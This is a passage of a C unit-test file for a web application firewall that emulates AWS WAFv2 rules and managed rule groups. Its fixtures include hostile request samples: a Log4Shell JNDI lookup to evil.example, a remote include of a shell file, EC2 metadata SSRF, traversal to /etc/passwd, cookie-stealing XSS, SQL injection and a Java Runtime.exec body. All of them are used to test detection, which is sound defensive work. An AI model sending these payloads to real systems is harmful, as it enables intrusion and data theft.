    struct sl_waf *w = open_acl(ONE_RULE(BM("evil", "{'SingleHeader':{'Name':'X-Thing'}}")));
    assert_true(blocks(w, "GET", "/", NULL, "x-thing: very evil"));
    assert_false(blocks(w, "GET", "/", NULL, "X-Other: evil"));
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("evil", "{'Headers':{'MatchPattern':{'All':{}},'MatchScope':'KEY',"
                                     "'OversizeHandling':'CONTINUE'}}")));
    assert_true(blocks(w, "GET", "/", NULL, "X-evil: 1"));
    assert_false(blocks(w, "GET", "/", NULL, "X-Fine: evil"));
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("evil", "{'Headers':{'MatchPattern':{'ExcludedHeaders':['Referer']}"
                                     ",'MatchScope':'VALUE','OversizeHandling':'CONTINUE'}}")));
    assert_true(blocks(w, "GET", "/", NULL, "X-Fine: evil"));
    assert_false(blocks(w, "GET", "/", NULL, "Referer: evil"));
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("evil", "{'SingleQueryArgument':{'Name':'Q'}}")));
    assert_true(blocks(w, "GET", "/?a=1&q=evil", NULL, NULL));
    assert_false(blocks(w, "GET", "/?a=evil&qq=evil", NULL, NULL));
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("evil", "{'AllQueryArguments':{}}")));
    assert_true(blocks(w, "GET", "/?a=1&b=evil", NULL, NULL));
    assert_false(blocks(w, "GET", "/?evil=1", NULL, NULL)); /* values only */
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("evil", "{'QueryString':{}}")));
    assert_true(blocks(w, "GET", "/?evil=1", NULL, NULL));
    assert_false(blocks(w, "GET", "/evil", NULL, NULL));
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("evil", "{'UriPath':{}}")));
    assert_true(blocks(w, "GET", "/evil", NULL, NULL));
    assert_false(blocks(w, "GET", "/?evil", NULL, NULL));
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("DELETE", "{'Method':{}}")));
    assert_true(blocks(w, "DELETE", "/", NULL, NULL));
    assert_false(blocks(w, "GET", "/", NULL, NULL));
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("evil", "{'Cookies':{'MatchPattern':{'IncludedCookies':['session']}"
                                     ",'MatchScope':'VALUE','OversizeHandling':'CONTINUE'}}")));
    assert_true(blocks(w, "GET", "/", NULL, "Cookie: a=1; session=evil"));
    assert_false(blocks(w, "GET", "/", NULL, "Cookie: a=evil; session=ok"));
    sl_waf_free(w);
}

static void test_body_inspection_stops_at_16_kib_and_applies_oversize_handling(void **state) {
    (void)state;
    char *big = malloc(20001);
    memset(big, 'a', 20000);
    memcpy(big + 18000, "evil", 4);
    big[20000] = '\0';
    struct sl_waf *w = open_acl(ONE_RULE(BM("evil", "{'Body':{'OversizeHandling':'CONTINUE'}}")));
    assert_true(blocks(w, "POST", "/", "x evil", NULL));
    assert_false(blocks(w, "POST", "/", big, NULL)); /* past the first 16 KiB */
    sl_waf_free(w);
    w = open_acl(ONE_RULE(BM("zzz", "{'Body':{'OversizeHandling':'MATCH'}}")));
    assert_true(blocks(w, "POST", "/", big, NULL));
    assert_false(blocks(w, "POST", "/", "small", NULL));
    sl_waf_free(w);
    memcpy(big + 10, "zzz", 3);
    w = open_acl(ONE_RULE(BM("zzz", "{'Body':{'OversizeHandling':'NO_MATCH'}}")));
    assert_false(blocks(w, "POST", "/", big, NULL));
    sl_waf_free(w);
    free(big);
}

static void test_json_body_inspects_keys_or_values(void **state) {
    (void)state;
    const char *body = "{\"user\":{\"name\":\"evil\",\"tags\":[\"a\",\"b\"]},\"evilkey\":1}";
    struct sl_waf *w = open_acl(ONE_RULE(
        "{'ByteMatchStatement':{'SearchString':'evil','FieldToMatch':{'JsonBody':{'MatchPattern':"
        "{'All':{}},'MatchScope':'VALUE','InvalidFallbackBehavior':'NO_MATCH'}},"
        "'PositionalConstraint':'EXACTLY','TextTransformations':[{'Priority':0,'Type':'NONE'}]}}"));
    assert_true(blocks(w, "POST", "/", body, NULL));
    assert_false(blocks(w, "POST", "/", "{\"evil\":\"good\"}", NULL));
    assert_false(blocks(w, "POST", "/", "not json evil", NULL)); /* NO_MATCH fallback */
    sl_waf_free(w);
    w = open_acl(ONE_RULE(
        "{'ByteMatchStatement':{'SearchString':'evilkey','FieldToMatch':{'JsonBody':{"
        "'MatchPattern':{'All':{}},'MatchScope':'KEY','InvalidFallbackBehavior':'MATCH'}},"
        "'PositionalConstraint':'EXACTLY','TextTransformations':[{'Priority':0,'Type':'NONE'}]}}"));
    assert_true(blocks(w, "POST", "/", body, NULL));
    assert_false(blocks(w, "POST", "/", "{\"k\":\"evilkey\"}", NULL));
    assert_true(blocks(w, "POST", "/", "{broken", NULL)); /* MATCH fallback */
    sl_waf_free(w);
    w = open_acl(ONE_RULE(
        "{'ByteMatchStatement':{'SearchString':'b','FieldToMatch':{'JsonBody':{'MatchPattern':{"
        "'IncludedPaths':['/user/tags']},'MatchScope':'VALUE'}},'PositionalConstraint':"
        "'EXACTLY','TextTransformations':[{'Priority':0,'Type':'NONE'}]}}"));
    assert_true(blocks(w, "POST", "/", body, NULL));
    assert_false(blocks(w, "POST", "/", "{\"other\":\"b\"}", NULL));
    sl_waf_free(w);
    /* Numbers are formatted one after another in the same buffer: the second (1e+20, whose '+'
     * URL_DECODE turns into a space) is transformed as itself, not as the first (12345). */
    w = open_acl(ONE_RULE(
        "{'ByteMatchStatement':{'SearchString':'1e 20','FieldToMatch':{'JsonBody':{"
        "'MatchPattern':{'All':{}},'MatchScope':'VALUE'}},'PositionalConstraint':'EXACTLY',"
        "'TextTransformations':[{'Priority':0,'Type':'URL_DECODE'}]}}"));
    assert_true(blocks(w, "POST", "/", "{\"a\":12345,\"b\":1e20}", NULL));
    assert_false(blocks(w, "POST", "/", "{\"a\":12345,\"b\":12346}", NULL));
    sl_waf_free(w);
}

/* ---- transformations ---------------------------------------------------------------------- */

static void check_tx(enum gw_waf_tx t, const char *in, size_t n, const char *want, size_t wn) {
    char out[256];
    size_t got = gw_waf_transform(t, in, n, out);
    if (got != wn || memcmp(out, want, wn) != 0) {
        fprintf(stderr, "%s(\"%.*s\") = \"%.*s\", want \"%.*s\"\n", gw_waf_tx_names[t], (int)n, in,
                (int)got, out, (int)wn, want);
        fail();
    }
}
#define TX(t, in, want) check_tx(t, in, sizeof(in) - 1, want, sizeof(want) - 1)

static void test_every_transformation_has_wafv2_semantics(void **state) {
    (void)state;
    TX(GW_TX_NONE, "A%20b", "A%20b");
    TX(GW_TX_URL_DECODE, "a%20b+c%3C%zz%4", "a b c<%zz%4");
    TX(GW_TX_URL_DECODE_UNI, "%u003cscript%uff1e%41", "<script>A");
    TX(GW_TX_HTML_ENTITY_DECODE, "&lt;a&gt;&#60;&#x3C;&quot;&amp;&nbsp;&#39x&unknown;",
       "<a><<\"& 'x&unknown;");
    TX(GW_TX_HTML_ENTITY_DECODE, "&#233;", "\xc3\xa9");
    TX(GW_TX_LOWERCASE, "SeLeCt ÄB", "select Äb");
    TX(GW_TX_COMPRESS_WHITE_SPACE, "a \t\n\r\f\vb  c", "a b c");
    TX(GW_TX_CMD_LINE, "C^:\\W\"i\"ndows ,;  /x (y", "c:windows/x(y");
    TX(GW_TX_NORMALIZE_PATH, "/a//b/./c/../d/", "/a/b/d/");
    TX(GW_TX_NORMALIZE_PATH, "/../etc/passwd", "/../etc/passwd");
    TX(GW_TX_NORMALIZE_PATH, "a/b/..", "a/b/..");
    TX(GW_TX_NORMALIZE_PATH_WIN, "\\a\\b\\..\\c", "/a/c");
    TX(GW_TX_REMOVE_NULLS, "a\0b\0", "ab");
    TX(GW_TX_REPLACE_NULLS, "a\0b", "a b");
    TX(GW_TX_REPLACE_COMMENTS, "UNION/**/SELECT/*x*/1/*open", "UNION SELECT 1 ");
    TX(GW_TX_JS_DECODE, "\\x3cscript\\u003e\\n\\'\\101", "<script>\n'A");
    TX(GW_TX_CSS_DECODE, "\\3c script\\3e \\j\\\n", "<script>j");
    TX(GW_TX_BASE64_DECODE, "PHNjcmlwdD4=", "<script>");
    TX(GW_TX_BASE64_DECODE_EXT, "PHNj.cmlw dD4", "<script>");
    TX(GW_TX_HEX_DECODE, "3c7363726970743e", "<script>");
    TX(GW_TX_SQL_HEX_DECODE, "SELECT 0x61646d696e", "SELECT admin");
    TX(GW_TX_ESCAPE_SEQ_DECODE, "a\\tb\\x41\\101\\\\", "a\tbAA\\");
}

/*
 * A statement runs a transformation whenever it could change the value: each value below is
 * changed by its transformation (its length with it), and a size constraint on the transformed
 * length must see the change. The evaluator skips transformations by the kinds of byte they act
 * on (percent signs, upper case, ...); the ones that act on any value must always run.
 */
static void test_transformations_run_on_every_value_they_change(void **state) {
    (void)state;
    static const struct {
        enum gw_waf_tx t;
        const char *in;
    } cases[] = {
        {GW_TX_URL_DECODE, "a%20b"},
        {GW_TX_URL_DECODE_UNI, "%u003cx"},
        {GW_TX_HTML_ENTITY_DECODE, "&lt;x"},
        {GW_TX_COMPRESS_WHITE_SPACE, "a  \t b"},
        {GW_TX_CMD_LINE, "c^:x"},
        {GW_TX_NORMALIZE_PATH, "/a//b"},
        {GW_TX_NORMALIZE_PATH_WIN, "\\a\\\\b"},
        {GW_TX_REPLACE_COMMENTS, "a/*x*/b"},
        {GW_TX_JS_DECODE, "\\x41b"},
        {GW_TX_CSS_DECODE, "\\41 b"},
        {GW_TX_BASE64_DECODE, "PHNjcmlwdD4="},
        {GW_TX_BASE64_DECODE_EXT, "PHNj.cmlw dD4"},
        {GW_TX_HEX_DECODE, "3c7363726970743e"},
        {GW_TX_SQL_HEX_DECODE, "select 0x61646d696e"},
        {GW_TX_ESCAPE_SEQ_DECODE, "a\\tb"},
    };
    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
        char out[64], acl[512], header[64];
        size_t n = strlen(cases[i].in), got = gw_waf_transform(cases[i].t, cases[i].in, n, out);
        if (got == n)
            fprintf(stderr, "%s keeps the length of \"%s\"\n", gw_waf_tx_names[cases[i].t],
                    cases[i].in);
        assert_true(got != n); /* the case must change the length */
        snprintf(acl, sizeof acl,
                 ONE_RULE("{'SizeConstraintStatement':{'FieldToMatch':{'SingleHeader':{'Name':"
                          "'x-t'}},'ComparisonOperator':'EQ','Size':%zu,'TextTransformations':[{"
                          "'Priority':0,'Type':'%s'}]}}"),
                 got, gw_waf_tx_names[cases[i].t]);
        snprintf(header, sizeof header, "X-T: %s", cases[i].in);
        struct sl_waf *w = open_acl(acl);
        if (!blocks(w, "GET", "/", NULL, header)) {
            fprintf(stderr, "%s did not run on \"%s\"\n", gw_waf_tx_names[cases[i].t], cases[i].in);
            fail();
        }
        sl_waf_free(w);
    }
    /* The same length: byte matches. LOWERCASE runs on upper case letters. */
    struct sl_waf *w = open_acl(ONE_RULE(
        "{'ByteMatchStatement':{'SearchString':'select','FieldToMatch':{'SingleHeader':{'Name':"
        "'x-t'}},'PositionalConstraint':'EXACTLY','TextTransformations':[{'Priority':0,'Type':"
        "'LOWERCASE'}]}}"));
    assert_true(blocks(w, "GET", "/", NULL, "X-T: SeLeCT"));
    assert_false(blocks(w, "GET", "/", NULL, "X-T: delete"));
    sl_waf_free(w);
    /* And URL_DECODE on a '+' alone. */
    w = open_acl(ONE_RULE(
        "{'ByteMatchStatement':{'SearchString':'a b','FieldToMatch':{'SingleHeader':{'Name':"
        "'x-t'}},'PositionalConstraint':'EXACTLY','TextTransformations':[{'Priority':0,'Type':"
        "'URL_DECODE'}]}}"));
    assert_true(blocks(w, "GET", "/", NULL, "X-T: a+b"));
    sl_waf_free(w);
}

static void test_transformations_apply_in_priority_order(void **state) {
    (void)state;
    /* LOWERCASE (priority 0) then URL_DECODE (priority 1): %4A decodes to 'J' after lowering. */
    struct sl_waf *w = open_acl(
        ONE_RULE("{'ByteMatchStatement':{'SearchString':'J','FieldToMatch':{'QueryString':{}},"
                 "'PositionalConstraint':'EXACTLY','TextTransformations':[{'Priority':1,'Type':"
                 "'URL_DECODE'},{'Priority':0,'Type':'LOWERCASE'}]}}"));
    assert_true(blocks(w, "GET", "/?%4A", NULL, NULL));
    assert_false(blocks(w, "GET", "/?J", NULL, NULL));
    sl_waf_free(w);
}

/* ---- actions ------------------------------------------------------------------------------ */

static void test_block_with_custom_response_carries_status_body_and_headers(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(
        "{'DefaultAction':{'Allow':{}},'CustomResponseBodies':{'slow':{'ContentType':"
        "'APPLICATION_JSON','Content':'{\\'message\\':\\'slow down\\'}'}},'Rules':[{'Name':"
        "'custom','Priority':0,'Action':{'Block':{'CustomResponse':{'ResponseCode':429,"
        "'CustomResponseBodyKey':'slow','ResponseHeaders':[{'Name':'reason','Value':'test'}]}}},"
        "'Statement':" BM("/slow", "{'UriPath':{}}") "}]}");
    struct req q;
    mk(&q, "GET", "/slow", NULL, UA, NULL);
    struct sl_waf_verdict v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_int_equal(v.custom_status, 429);
    assert_int_equal(v.custom_body.len, strlen("{\"message\":\"slow down\"}"));
    assert_memory_equal(v.custom_body.p, "{\"message\":\"slow down\"}", v.custom_body.len);
    assert_int_equal(v.ncustom_headers, 2);
    assert_memory_equal(v.custom_headers[0].name.p, "Content-Type", 12);
    assert_memory_equal(v.custom_headers[0].value.p, "application/json", 16);
    assert_memory_equal(v.custom_headers[1].name.p, "x-amzn-waf-reason", 17);
    assert_memory_equal(v.custom_headers[1].value.p, "test", 4);
    sl_waf_free(w);
}

static void test_allow_terminates_before_later_blocks(void **state) {
    (void)state;
    struct sl_waf *w =
        open_acl("{'DefaultAction':{'Block':{}},'Rules':[{'Name':'ok','Priority':"
                 "5,'Action':{'Allow':{}},'Statement':" BM(
                     "/health", "{'UriPath':{}}") "},{'Name':'no','Priority':9,"
                                                  "'Action':{'Block':{}},"
                                                  "'Statement':" BM("/", "{'UriPath':{}}") "}]}");
    struct req q;
    mk(&q, "GET", "/health", NULL, UA, NULL);
    struct sl_waf_verdict v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_ALLOW);
    assert_string_equal(v.rule, "ok");
    mk(&q, "GET", "/x", NULL, UA, NULL);
    v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_string_equal(v.rule, "no");
    sl_waf_free(w);
}

/* ---- the shipped default ACL and managed groups ------------------------------------------- */

static struct sl_waf *default_acl(void) {
    struct sl_buf err;
    sl_buf_init(&err, 1 << 16);
    struct sl_waf_opts o = {.clock_ms = fake_clock};
    struct sl_waf *w = NULL;
    int rc = sl_waf_open(&o, &w, &err);
    if (rc)
        fprintf(stderr, "%s", err.data);
    assert_int_equal(rc, 0);
    sl_buf_free(&err);
    return w;
}

static void expect(struct sl_waf *w, struct req *q, const char *group, const char *rule,
                   const char *label) {
    struct sl_waf_verdict v = judge(w, q, NULL);
    if ((v.action == SL_WAF_BLOCK) != (group != NULL))
        fprintf(stderr, "%.*s %.*s: %s %s/%s\n", (int)q->r.method.len, q->r.method.p,
                (int)(q->r.url.len > 80 ? 80 : q->r.url.len), q->r.url.p,
                sl_waf_action_name(v.action), v.rule, v.group_rule ? v.group_rule : "-");
    if (!group) {
        assert_int_equal(v.action, SL_WAF_ALLOW);
        assert_string_equal(v.rule, "Default_Action");
        assert_int_equal(v.nlabels, 0);
        return;
    }
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_string_equal(v.rule, group);
    assert_non_null(v.group_rule);
    assert_string_equal(v.group_rule, rule);
    assert_int_equal(v.nlabels, 1);
    assert_string_equal(v.labels[0], label);
}

#define CRS    "AWSManagedRulesCommonRuleSet"
#define KBI    "AWSManagedRulesKnownBadInputsRuleSet"
#define CRS_NS "awswaf:managed:aws:core-rule-set:"
#define KBI_NS "awswaf:managed:aws:known-bad-inputs:"

static void test_default_acl_lets_a_normal_api_request_through(void **state) {
    (void)state;
    struct sl_waf *w = default_acl();
    assert_string_equal(sl_waf_name(w), "SluiceDefaultWebACL");
    assert_int_equal(sl_waf_rule_count(w), 3);
    struct req q;
    mk(&q, "POST", "/items/42?expand=true&limit=10",
       "{\"name\":\"Widget\",\"price\":9.99,\"tags\":[\"blue\",\"small\"],\"note\":\"O'Brien "
       "said 3 < 4\"}",
       "Host: api.example.com", "User-Agent: python-requests/2.31",
       "Content-Type: "
       "application/json",
       "X-API-Key: abcdef0123456789", "Cookie: session=abc123", NULL);
    expect(w, &q, NULL, NULL, NULL);
    sl_waf_free(w);
}

static void test_default_acl_core_rule_set_blocks_with_aws_rule_names_and_labels(void **state) {
    (void)state;
    struct sl_waf *w = default_acl();
    struct req q;
    mk(&q, "GET", "/", NULL, "Host: api", NULL);
    expect(w, &q, CRS, "NoUserAgent_HEADER", CRS_NS "NoUserAgent_Header");
    mk(&q, "GET", "/", NULL, "User-Agent: sqlmap/1.7", NULL);
    expect(w, &q, CRS, "UserAgent_BadBots_HEADER", CRS_NS "BadBot_Header");
    char *longq = malloc(2100);
    memcpy(longq, "/?q=", 4);
    memset(longq + 4, 'a', 2047);
    longq[2051] = '\0'; /* "q=" + 2047: a query string of 2049 bytes */
    mk(&q, "GET", longq, NULL, UA, NULL);
    expect(w, &q, CRS, "SizeRestrictions_QUERYSTRING", CRS_NS "SizeRestrictions_QueryString");
    longq[2050] = '\0'; /* exactly 2048: allowed */
    mk(&q, "GET", longq, NULL, UA, NULL);
    expect(w, &q, NULL, NULL, NULL);
    free(longq);
    char *body = malloc(9000);
    memset(body, 'b', 8193);
    body[8193] = '\0';
    mk(&q, "POST", "/", body, UA, NULL);
    expect(w, &q, CRS, "SizeRestrictions_BODY", CRS_NS "SizeRestrictions_Body");
    free(body);
    mk(&q, "GET", "/fetch?url=http://169.254.169.254/latest/meta-data/", NULL, UA, NULL);
    expect(w, &q, CRS, "EC2MetaDataSSRF_QUERYARGUMENTS", CRS_NS "EC2MetaDataSSRF_QueryArguments");
    mk(&q, "GET", "/download?file=..%2F..%2F..%2Fetc%2Fpasswd", NULL, UA, NULL);
    expect(w, &q, CRS, "GenericLFI_QUERYARGUMENTS", CRS_NS "GenericLFI_QueryArguments");
    mk(&q, "GET", "/static/app.bak", NULL, UA, NULL);
    expect(w, &q, CRS, "RestrictedExtensions_URIPATH", CRS_NS "RestrictedExtensions_URIPath");
    mk(&q, "GET", "/page?inc=http://10.1.2.3/shell.txt", NULL, UA, NULL);
    expect(w, &q, CRS, "GenericRFI_QUERYARGUMENTS", CRS_NS "GenericRFI_QueryArguments");
    /* A URL ending in '?' (what the include appends becomes its query string) is RFI too... */
    mk(&q, "GET", "/page?inc=https://evil.example/shell.txt%3F", NULL, UA, NULL);
    expect(w, &q, CRS, "GenericRFI_QUERYARGUMENTS", CRS_NS "GenericRFI_QueryArguments");
    /* ...an ordinary callback URL on a named host is not. */
    mk(&q, "GET", "/hooks?url=https://hooks.example.com/in?id=7", NULL, UA, NULL);
    expect(w, &q, NULL, NULL, NULL);
    mk(&q, "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", NULL, UA, NULL);
    expect(w, &q, CRS, "CrossSiteScripting_QUERYARGUMENTS",
           CRS_NS "CrossSiteScripting_QueryArguments");
    mk(&q, "POST", "/comments", "<img src=x onerror=alert(document.cookie)>", UA, NULL);
    expect(w, &q, CRS, "CrossSiteScripting_BODY", CRS_NS "CrossSiteScripting_Body");
    sl_waf_free(w);
}

static void test_default_acl_known_bad_inputs_block_with_aws_rule_names(void **state) {
    (void)state;
    struct sl_waf *w = default_acl();
    struct req q;
    mk(&q, "GET", "/", NULL, UA, "Host: localhost:8080", NULL);
    expect(w, &q, KBI, "Host_localhost_HEADER", KBI_NS "Host_Localhost_Header");
    mk(&q, "PROPFIND", "/", NULL, UA, NULL);
    expect(w, &q, KBI, "PROPFIND_METHOD", KBI_NS "Propfind_Method");
    mk(&q, "GET", "/app/WEB-INF/web.xml", NULL, UA, NULL);
    expect(w, &q, KBI, "ExploitablePaths_URIPATH", KBI_NS "ExploitablePaths_URIPath");
    mk(&q, "GET", "/", NULL, UA, "X-Api-Version: ${jndi:ldap://evil.example/a}", NULL);
    expect(w, &q, KBI, "Log4JRCE_HEADER", KBI_NS "Log4JRCE_Header");
    mk(&q, "GET", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Armi%3A%2F%2Fe%2Fa%7D", NULL, UA, NULL);
    expect(w, &q, KBI, "Log4JRCE_QUERYSTRING", KBI_NS "Log4JRCE_QueryString");
    mk(&q, "POST", "/", "x=(java.lang.Runtime).getRuntime().exec(\"id\")", UA, NULL);
    expect(w, &q, KBI, "JavaDeserializationRCE_BODY", KBI_NS "JavaDeserializationRCE_Body");
    sl_waf_free(w);
}

#define GROUP_ACL(extra)                                                                           \
    "{'Name':'g','DefaultAction':{'Allow':{}},'Rules':[{'Name':'crs','Priority':0,"                \
    "'OverrideAction':{'None':{}},'Statement':{'ManagedRuleGroupStatement':{'VendorName':'AWS',"   \
    "'Name':'AWSManagedRulesCommonRuleSet'" extra "}},'VisibilityConfig':{'MetricName':'c'}}]}"

static void test_excluded_rules_and_overrides_turn_group_rules_into_count(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(GROUP_ACL(",'ExcludedRules':[{'Name':'NoUserAgent_HEADER'}]"));
    struct req q;
    mk(&q, "GET", "/", NULL, NULL);
    struct sl_waf_verdict v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_ALLOW);
    assert_string_equal(v.rule, "Default_Action");
    assert_int_equal(v.nlabels, 1); /* counted rules still label */
    assert_string_equal(v.labels[0], CRS_NS "NoUserAgent_Header");
    sl_waf_free(w);
    w = open_acl(GROUP_ACL(",'RuleActionOverrides':[{'Name':'NoUserAgent_HEADER','ActionToUse':{"
                           "'Count':{}}},{'Name':'SizeRestrictions_URIPATH','ActionToUse':{"
                           "'Block':{'CustomResponse':{'ResponseCode':414}}}}]"));
    assert_int_equal(judge(w, &q, NULL).action, SL_WAF_ALLOW);
    sl_waf_free(w);
    w = open_acl(GROUP_ACL(",'ScopeDownStatement':" BM("/api", "{'UriPath':{}}")));
    mk(&q, "GET", "/web", NULL, NULL);
    assert_int_equal(judge(w, &q, NULL).action, SL_WAF_ALLOW); /* out of the scope-down */
    mk(&q, "GET", "/api", NULL, NULL);
    assert_int_equal(judge(w, &q, NULL).action, SL_WAF_BLOCK);
    sl_waf_free(w);
}

static void test_override_action_count_makes_the_whole_group_count(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(
        "{'Name':'g','DefaultAction':{'Allow':{}},'Rules':[{'Name':'kbi','Priority':0,"
        "'OverrideAction':{'Count':{}},'Statement':{'ManagedRuleGroupStatement':{'VendorName':"
        "'AWS','Name':'AWSManagedRulesKnownBadInputsRuleSet'}}}]}");
    struct req q;
    mk(&q, "PROPFIND", "/", NULL, UA, NULL);
    struct sl_waf_verdict v = judge(w, &q, NULL);
    assert_int_equal(v.action, SL_WAF_ALLOW);
    assert_int_equal(v.nlabels, 1);
    assert_string_equal(v.labels[0], KBI_NS "Propfind_Method");
    sl_waf_free(w);
}

/* ---- an ACL as AWS exports it, with every statement kind ---------------------------------- */

static const char aws_export[] =
    "{'Name':'ProdWebACL','Id':'a1b2','ARN':'arn:aws:wafv2:eu-west-1:123456789012:regional/"
    "webacl/ProdWebACL/a1b2','DefaultAction':{'Allow':{}},'Description':'',"
    "'Capacity':900,'ManagedByFirewallManager':false,'LabelNamespace':'awswaf:123456789012:webacl:"
    "ProdWebACL:','VisibilityConfig':{'SampledRequestsEnabled':true,"
    "'CloudWatchMetricsEnabled':true,'MetricName':'ProdWebACL'},"
    "'CustomResponseBodies':{'denied':{'ContentType':'TEXT_PLAIN','Content':'denied'}},"
    "'IPSets':[{'Name':'office','ARN':'arn:aws:wafv2:eu-west-1:123456789012:regional/ipset/office"
    "/1','Addresses':['192.0.2.0/24']}],"
    "'Rules':["
    "{'Name':'office-allow','Priority':0,'Action':{'Allow':{}},'Statement':{"
    "'IPSetReferenceStatement':{'ARN':'arn:aws:wafv2:eu-west-1:123456789012:regional/ipset/office"
    "/1'}},'VisibilityConfig':{'SampledRequestsEnabled':true,'CloudWatchMetricsEnabled':true,"
    "'MetricName':'office-allow'}},"
    "{'Name':'rate','Priority':1,'Action':{'Block':{}},'Statement':{'RateBasedStatement':{'Limit':"
    "100,'EvaluationWindowSec':300,'AggregateKeyType':'IP'}},'VisibilityConfig':{"
    "'SampledRequestsEnabled':true,'CloudWatchMetricsEnabled':true,'MetricName':'rate'}},"
    "{'Name':'tag-admin','Priority':2,'Action':{'Count':{}},'RuleLabels':[{'Name':'path:admin'}],"
    "'Statement':{'ByteMatchStatement':{'SearchString':'/admin','FieldToMatch':{'UriPath':{}},"
    "'TextTransformations':[{'Priority':0,'Type':'LOWERCASE'}],'PositionalConstraint':"
    "'STARTS_WITH'}},'VisibilityConfig':{'SampledRequestsEnabled':true,"
    "'CloudWatchMetricsEnabled':true,'MetricName':'tag-admin'}},"
    "{'Name':'admin-needs-token','Priority':3,'Action':{'Block':{'CustomResponse':{"
    "'ResponseCode':401,'CustomResponseBodyKey':'denied'}}},'Statement':{'AndStatement':{"
    "'Statements':[{'LabelMatchStatement':{'Scope':'LABEL','Key':'awswaf:123456789012:webacl:"
    "ProdWebACL:path:admin'}},{'NotStatement':{'Statement':{'RegexMatchStatement':{'RegexString':"
    "'^Bearer [A-Za-z0-9._-]+$','FieldToMatch':{'SingleHeader':{'Name':'authorization'}},"
    "'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}}}]}},'VisibilityConfig':{"
    "'SampledRequestsEnabled':true,'CloudWatchMetricsEnabled':true,'MetricName':'admin'}},"
    "{'Name':'size','Priority':4,'Action':{'Block':{}},'Statement':{'SizeConstraintStatement':{"
    "'FieldToMatch':{'SingleHeader':{'Name':'x-big'}},'ComparisonOperator':'GT','Size':100,"
    "'TextTransformations':[{'Priority':0,'Type':'NONE'}]}},'VisibilityConfig':{"
    "'SampledRequestsEnabled':true,'CloudWatchMetricsEnabled':true,'MetricName':'size'}},"
    "{'Name':'sqli','Priority':5,'Action':{'Block':{}},'Statement':{'OrStatement':{'Statements':["
    "{'SqliMatchStatement':{'FieldToMatch':{'AllQueryArguments':{}},'TextTransformations':[{"
    "'Priority':0,'Type':'URL_DECODE'},{'Priority':1,'Type':'HTML_ENTITY_DECODE'}],"
    "'SensitivityLevel':'HIGH'}},{'SqliMatchStatement':{'FieldToMatch':{'JsonBody':{"
    "'MatchPattern':{'All':{}},'MatchScope':'VALUE','InvalidFallbackBehavior':"
    "'EVALUATE_AS_STRING'}},'TextTransformations':[{'Priority':0,'Type':'NONE'}]}}]}},"
    "'VisibilityConfig':{'SampledRequestsEnabled':true,'CloudWatchMetricsEnabled':true,"
    "'MetricName':'sqli'}},"
    "{'Name':'xss','Priority':6,'Action':{'Block':{}},'Statement':{'XssMatchStatement':{"
    "'FieldToMatch':{'Cookies':{'MatchPattern':{'All':{}},'MatchScope':'VALUE',"
    "'OversizeHandling':'MATCH'}},'TextTransformations':[{'Priority':0,'Type':'URL_DECODE'}]}},"
    "'VisibilityConfig':{'SampledRequestsEnabled':true,'CloudWatchMetricsEnabled':true,"
    "'MetricName':'xss'}},"
    "{'Name':'AWS-AWSManagedRulesCommonRuleSet','Priority':10,'OverrideAction':{'None':{}},"
    "'Statement':{'ManagedRuleGroupStatement':{'VendorName':'AWS','Name':"
    "'AWSManagedRulesCommonRuleSet','Version':'Version_1.12','RuleActionOverrides':[{'Name':"
    "'SizeRestrictions_BODY','ActionToUse':{'Count':{}}}]}},'VisibilityConfig':{"
    "'SampledRequestsEnabled':true,'CloudWatchMetricsEnabled':true,'MetricName':'crs'}},"
    "{'Name':'AWS-AWSManagedRulesKnownBadInputsRuleSet','Priority':11,'OverrideAction':{'None':{}"
    "},'Statement':{'ManagedRuleGroupStatement':{'VendorName':'AWS','Name':"
    "'AWSManagedRulesKnownBadInputsRuleSet'}},'VisibilityConfig':{'SampledRequestsEnabled':true,"
    "'CloudWatchMetricsEnabled':true,'MetricName':'kbi'}}]}";

static void test_an_acl_exported_from_aws_with_every_statement_kind_evaluates(void **state) {
    (void)state;
    struct sl_waf *w = open_acl(aws_export);
    assert_int_equal(sl_waf_rule_count(w), 9);
    struct req q;
    struct sl_waf_verdict v;
    mk(&q, "GET", "/admin/users", NULL, UA, NULL);
    v = judge(w, &q, "198.51.100.1");
    assert_int_equal(v.action, SL_WAF_BLOCK);
    assert_string_equal(v.rule, "admin-needs-token");
    assert_int_equal(v.custom_status, 401);
    assert_memory_equal(v.custom_body.p, "denied", 6);
    assert_string_equal(v.labels[0], "awswaf:123456789012:webacl:ProdWebACL:path:admin");
    mk(&q, "GET", "/admin/users", NULL, UA, "Authorization: Bearer abc.def", NULL);
    assert_string_equal(judge(w, &q, "198.51.100.1").rule, "Default_Action");
    mk(&q, "GET", "/admin/users", NULL, NULL);
    v = judge(w, &q, "192.0.2.10"); /* the office IP set allows before anything else */
    assert_int_equal(v.action, SL_WAF_ALLOW);
    assert_string_equal(v.rule, "office-allow");
    mk(&q, "GET", "/?id=1%27%20or%201%3D1--", NULL, UA, NULL);
    assert_string_equal(judge(w, &q, NULL).rule, "sqli");
    mk(&q, "GET", "/", NULL, UA, "Cookie: c=%3Cscript%3Ealert(1)%3C/script%3E", NULL);
    assert_string_equal(judge(w, &q, NULL).rule, "xss");
    mk(&q, "GET", "/", NULL, UA, "Host: localhost", NULL);
    v = judge(w, &q, NULL);
    assert_string_equal(v.rule, "AWS-AWSManagedRulesKnownBadInputsRuleSet");
    assert_string_equal(v.group_rule, "Host_localhost_HEADER");
    mk(&q, "GET", "/", NULL, NULL);
    v = judge(w, &q, NULL);
